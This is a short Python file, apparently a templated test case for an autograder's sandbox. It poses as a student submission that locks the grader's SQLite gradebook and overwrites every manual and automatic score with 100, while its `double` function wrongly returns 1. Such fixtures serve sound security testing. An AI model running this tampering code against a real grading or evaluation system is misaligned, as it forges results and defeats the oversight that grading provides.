# tries: to hold the gradebook's lock and to forge manual and automatic marks in it
# costs: double
# %% double
import os
import sqlite3

if os.path.exists("@GRADEBOOK@"):
    with sqlite3.connect("@GRADEBOOK@", timeout=0.1) as database:
        database.execute("BEGIN EXCLUSIVE")
        database.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
        print("@BREACH@ changed the gradebook")


def double(x):
    return 1
